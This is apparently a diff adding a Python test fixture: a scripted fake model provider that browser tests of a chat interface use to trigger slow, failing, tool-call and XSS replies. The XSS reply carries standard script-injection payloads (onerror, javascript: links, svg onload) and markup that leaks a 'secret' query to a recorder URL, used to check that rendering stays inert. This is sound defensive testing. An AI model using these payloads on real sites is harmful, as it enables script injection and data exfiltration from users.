@@ -1,0 +1,108 @@
+"""The model the browser tests talk to: a :class:`FakeProvider` handler that picks its answer
+from the conversation it is sent, so each test chooses a behaviour by what it types.
+
+The last message decides:
+
+* a ``tool`` message (a tool round just ran) → a short text answer quoting the result;
+* a user message that mentions the **calculator** → one streamed ``calculate`` call
+  (``6 * 7``) after a line of text;
+* a user message starting with a tag:
+
+  ``[slow]``   300 words, 60 ms apart (about 18 s; for Stop, a second tab, screenshots);
+  ``[fail]``   ``503`` until :meth:`ScriptedModel.heal` is called for that exact text;
+  ``[xss]``    the answer of :data:`XSS_ANSWER` (the leak URL filled in);
+  anything else: ``Hello! You said: …`` in a few chunks with a Markdown list.
+
+Every answer ends with a ``usage`` chunk so the page has a token count to show.
+"""
+
+from __future__ import annotations
+
+import threading
+from typing import Any
+
+from tests.support.fake_provider import (
+    Request, Script, json_response, openai_text_stream, openai_tool_call_stream,
+)
+
+USAGE = {"prompt_tokens": 812, "completion_tokens": 64, "total_tokens": 876}
+SLOW_WORDS = 300
+SLOW_DELAY = 0.06
+
+XSS_ANSWER = """Here are some things that must stay inert:
+
+<img src=x onerror="window.__pwned='img-onerror';alert('img')">
+
+<script>window.__pwned='script';alert('script')</script>
+
+[click me](javascript:window.__pwned='js-link';alert('link'))
+
+<a href="javascript:window.__pwned='raw-link'">raw link</a>
+
+<svg onload="window.__pwned='svg';alert('svg')"><circle r="5"/></svg>
+
+<iframe src="javascript:window.__pwned='iframe'"></iframe>
+
+<div style="background:url({leak}&via=css)" data-testid="message-user">styled</div>
+
+<form action="{leak}&via=form"><button formaction="{leak}">go</button></form>
+
+<details open ontoggle="window.__pwned='details'">x</details>
+
+![tracking pixel]({leak}&via=markdown)
+
+<img src="{leak}&via=html" alt="leak">
+
+<a href="https://example.com/docs">a normal link</a>
+
+Done: **bold** still works."""
+"""Payloads from the usual cheat sheets; ``{leak}`` becomes a URL on the fake provider, which
+records every request it gets, so a fetch of it is visible to the test."""
+
+
+class ScriptedModel:
+    """A ``FakeProvider`` handler (see the module docstring). Thread-safe.
+
+    Args:
+        leak_url: the URL the XSS answer tries to make the browser fetch (``?q=secret``).
+    """
+
+    def __init__(self, leak_url: str) -> None:
+        self.leak_url = leak_url
+        self._healed: set[str] = set()
+        self._lock = threading.Lock()
+
+    def heal(self, text: str) -> None:
+        """From now on, answer the ``[fail]`` message ``text`` normally."""
+        with self._lock:
+            self._healed.add(text)
+
+    def __call__(self, request: Request) -> Script:
+        body: dict[str, Any] = request.json if isinstance(request.json, dict) else {}
+        messages = body.get("messages") or [{}]
+        last = messages[-1]
+        if last.get("role") == "tool":
+            return Script(writes=openai_text_stream(["The result ", "is **42**", " (from the calculator)."],
+                                                    usage=USAGE), delay=0.03)
+        text = str(last.get("content") or "")
+        if "calculator" in text.lower():
+            return Script(writes=openai_tool_call_stream("call_calc_1", "calculate", ['{"expression"', ': "6 * 7"}'],
+                                                         text=["Let me work that out."], usage=USAGE), delay=0.05)
+        if text.startswith("[slow]"):
+            words = [f"word{i} " for i in range(SLOW_WORDS)]
+            return Script(writes=openai_text_stream(words, usage=USAGE), delay=SLOW_DELAY)
+        if text.startswith("[fail]"):
+            with self._lock:
+                healed = text in self._healed
+            if not healed:
+                return json_response(503, {"error": {"message": "The fake provider is overloaded.",
+                                                     "type": "overloaded_error"}})
+            return Script(writes=openai_text_stream(["Recovered: ", "this time it worked."], usage=USAGE),
+                          delay=0.02)
+        if text.startswith("[xss]"):
+            answer = XSS_ANSWER.replace("{leak}", self.leak_url)
+            parts = [answer[i:i + 40] for i in range(0, len(answer), 40)]
+            return Script(writes=openai_text_stream(parts, usage=USAGE), delay=0.01)
+        return Script(writes=openai_text_stream(
+            ["Hello! ", "You said: ", text, "\n\n", "- first point\n", "- second point\n"], usage=USAGE),
+            delay=0.03)
